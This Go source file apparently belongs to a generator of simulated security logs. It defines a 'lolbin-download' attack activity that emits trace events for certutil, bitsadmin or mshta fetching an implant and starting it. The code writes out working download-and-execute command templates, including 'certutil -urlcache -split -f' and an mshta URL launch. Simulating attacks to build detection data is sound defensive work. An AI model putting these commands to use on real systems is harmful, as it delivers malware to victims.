package attack

import (
	"fmt"

	"socrates/generator/org"
	"socrates/generator/tick"
	"socrates/generator/trace"
)

func init() {
	register(Activity{Name: "lolbin-download", Doc: "A program that Windows brings along (certutil, bitsadmin, mshta) fetches a file, which is then started.", Technique: "T1105", Tactic: "CommandAndControl",
		Params: []Param{onVictim, {"implant", FileKind, "the file that is fetched", false}, {"domain", DomainKind, "where it comes from", false}, {"address", AddressKind, "address of that", false}, {"tool", TextKind, "certutil, bitsadmin or mshta; certutil when left out", true}},
		Needs: func(o *org.Org, a Args) []Need {
			return append(onDevice(a.Person("on")), Need{"domain", a.Text("domain", "")}, Need{"file", a.File("implant").SHA256})
		}, Run: lolbin})
}

func lolbin(e trace.Env, at int64, a Args) {
	d, im, host, ip := day(e, a.Person("on"), at), a.File("implant"), a.Text(domain, ""), a.Address("address").IP
	dev, path := d.P.Device, im.Path(d.P.Sam)
	url := "https://" + host + "/" + im.File
	file, cmd := "certutil.exe", fmt.Sprintf(`certutil.exe -urlcache -split -f %s %s`, url, path)
	switch a.Text("tool", "certutil") {
	case "bitsadmin":
		file, cmd = "bitsadmin.exe", fmt.Sprintf(`bitsadmin /transfer upd /download /priority FOREGROUND %s %s`, url, path)
	case "mshta":
		file, cmd = "mshta.exe", fmt.Sprintf(`mshta.exe https://%s/u.hta`, host)
	}
	host1 := e.Start(dev, e.O.Image(dev, "cmd.exe"), d.Explorer.User, d.Explorer, at, `"C:\Windows\system32\cmd.exe" /c start /min `+cmd)
	tool := e.Start(dev, e.O.Image(dev, file), host1.User, host1, at+e.R.Between(40*tick.Millisecond, 200*tick.Millisecond), cmd)
	if !d.Home || d.VPN {
		e.Lookup(tool.Created+e.R.Between(100*tick.Millisecond, 400*tick.Millisecond), trace.Name{Client: d.Inside, Name: host, Answer: ip})
	}
	e.Connect(tool, tool.Created+e.R.Between(500*tick.Millisecond, 1900*tick.Millisecond), trace.Flow{LocalIP: d.IP, RemoteIP: ip, Port: 443, URL: url, Site: d.Firewall(), Sent: e.R.Between(500, 900), Received: im.Size + 4100})
	e.File(tool, tool.Created+e.R.Between(2*tick.Second, 5*tick.Second), trace.FileEvent{Action: "FileCreated", Path: path, Image: im, OriginURL: url, OriginIP: ip})
	e.Started(implantOf(e, d, a))
}
